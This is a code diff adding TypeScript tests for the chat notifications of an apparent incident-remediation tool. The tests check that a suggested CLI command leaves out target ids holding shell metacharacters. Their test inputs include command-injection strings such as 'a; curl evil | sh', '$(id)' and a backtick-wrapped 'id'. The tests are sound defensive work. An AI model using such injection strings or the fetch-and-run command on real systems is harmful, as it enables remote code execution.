@@ -5,6 +5,7 @@ import {
   messageOf,
   wordlessMessage,
 } from "../../../automation/notification/message-of";
+import type { ReasonCode } from "../../../automation/remediation/decision";
 import type { SettledOutcome } from "../../../automation/remediation/guardrails/event";
 import { decision } from "../remediation/support/records";
 import { FACTS, incident, outboxFor, outboxWithoutIncident } from "./support/facts";
@@ -136,6 +137,40 @@ describe("a message", () => {
     expect(message.title).toBe(`${ABOUT}: ${says}`);
     if (next === undefined) expect(message).not.toHaveProperty("next");
     else expect(message.next).toContain(next);
+  });
+
+  describe("about trouble that is left to a person", () => {
+    const leftTo = (code: ReasonCode, of = incident) => {
+      const reasons = [
+        { code: "high-risk", limitsTo: "approval", says: "a person decides" },
+        { code, limitsTo: "manual", says: "only suggested" },
+      ] as const;
+      const fact = { what: "decided", decision: decision("manual", { reasons }) } as const;
+      return messageOf(outboxFor(fact), { ...known, incident: of }).lines;
+    };
+    const START =
+      "Suggestion: restart-service can do it, once approved, if you report the trouble yourself: ";
+
+    test("says how to let its runbook do it, where the level alone is in the way", () => {
+      expect(leftTo("autonomy-suggest")).toContain(
+        `${START}\`homeostat incidents report application-pool-exhausted --env dev --service reference --on AWS::ECS::Service=homeostat-dev/reference\``,
+      );
+    });
+
+    test.each(["a; curl evil | sh", "a`id`", "$(id)", "a b", "x".repeat(300)])(
+      "repeats no name that a shell would take for more: %s",
+      (id) => {
+        const lines = leftTo("autonomy-suggest", { ...incident, target: { ...incident.target, id } });
+        expect(lines).toContain(`${START}\`homeostat incidents report\``);
+      },
+    );
+
+    test.each(["autonomy-shadow", "autonomy-cap", "low-confidence"] as const)(
+      "suggests nothing where there is %s",
+      (code) => {
+        expect(leftTo(code).join()).not.toContain("Suggestion");
+      },
+    );
   });
 
   test("that asks has the link, and says how to answer without it", () => {
